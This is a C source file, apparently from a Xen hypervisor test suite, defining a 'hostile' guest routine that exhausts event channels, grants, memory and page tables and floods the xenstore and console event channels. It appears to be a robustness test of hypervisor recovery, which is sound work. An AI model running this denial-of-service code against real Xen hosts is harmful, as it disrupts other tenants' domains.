/* SPDX-License-Identifier: Apache-2.0 */
/* hostile/hoard.c - takes all that it is given, and sends events without end. Nothing is given back: whether it comes back is the question. */
#include "domains/hostile/hostile.h"
#include "domains/runtime/event.h"
#include "domains/runtime/grant.h"
#include "domains/runtime/hypercall.h"
#include "domains/runtime/mem.h"

#define STORM 100000u
#define TRIES 200000u
#define SPARSE_STEP 0x40000ull		/* gfns, 1 GiB: each page of RAM wants page tables of its own */

static uint32_t hoard_ports(void)
{
	evtchn_port_t port = 0, far;
	uint32_t n = 0;

	while (n < TRIES && (!evtchn_alloc_unbound(DOMID_SELF, (domid_t)random_below(8), &port) || !evtchn_alloc_unbound(DOMID_SELF, DOMID_SELF, &port))) {
		n++;
		if (random_below(4) == 0 && !evtchn_bind_interdomain(DOMID_SELF, port, &far))
			n++;
	}
	return n;
}

/* Every page of ours to everybody, writable and not. */
static uint32_t hoard_grants(void)
{
	uint64_t gfn = virt_to_gfn(pages_alloc_n(1));
	uint32_t n = 0;

	while (n < TRIES && grant_give((domid_t)random_below(8), gfn, n & 1) >= 0)
		n++;
	return n;
}

/* RAM beyond the limit, in the largest blocks first; then one page in every GiB of the address space. */
static int64_t hoard_memory(void)
{
	static const uint32_t orders[] = { 18, 9, 0 };
	int64_t pages = 0;
	uint64_t gfn = 0x200000, freed = virt_to_gfn(pages_alloc_n(256));

	for (uint32_t o = 0; o < ARRAY_SIZE(orders); o++)
		for (uint32_t i = 0; i < TRIES && memory_populate(DOMID_SELF, &gfn, 1, orders[o]) == 1; i++) {
			pages += 1ll << orders[o];
			gfn += 1ull << orders[o];
		}
	for (uint64_t i = 0; freed && i < 256; i++, freed++)
		pages -= memory_decrease(DOMID_SELF, &freed, 1, 0) == 1;
	return pages;
}

static uint32_t hoard_tables(void)
{
	uint32_t n = 0;

	for (uint64_t gfn = 0x1000000; gfn < 1ull << 36; gfn += SPARSE_STEP) {
		if (memory_populate(DOMID_SELF, &gfn, 1, 0) != 1)
			break;
		n++;
	}
	for (uint64_t gfn = 0x1000200; gfn < 1ull << 36; gfn += SPARSE_STEP) {
		if (memory_add_to_physmap(XENMAPSPACE_grant_table, n % 4, gfn))
			break;
		n++;
	}
	return n;
}

/* To the store, the console, and every port that there is. */
static void storm(void)
{
	uint64_t store = 0, console = 0;

	(void)!hvm_get_param(DOMID_SELF, HVM_PARAM_STORE_EVTCHN, &store);
	(void)!hvm_get_param(DOMID_SELF, HVM_PARAM_CONSOLE_EVTCHN, &console);
	for (uint32_t i = 0; i < STORM; i++) {
		(void)!evtchn_send((evtchn_port_t)(i & 1 ? store : console));
		if (i % 8 == 0)
			(void)!evtchn_send(1 + random_below(1024));
	}
}

void attack_hoard(void)
{
	uint32_t ports, grants, tables;
	int64_t pages;

	storm();
	grants = hoard_grants();
	ports = hoard_ports();
	pages = hoard_memory();
	tables = hoard_tables();
	say("hostile: hoard: %u ports, %u grants, %ld pages, %u places", ports, grants, (long)pages, tables);
}
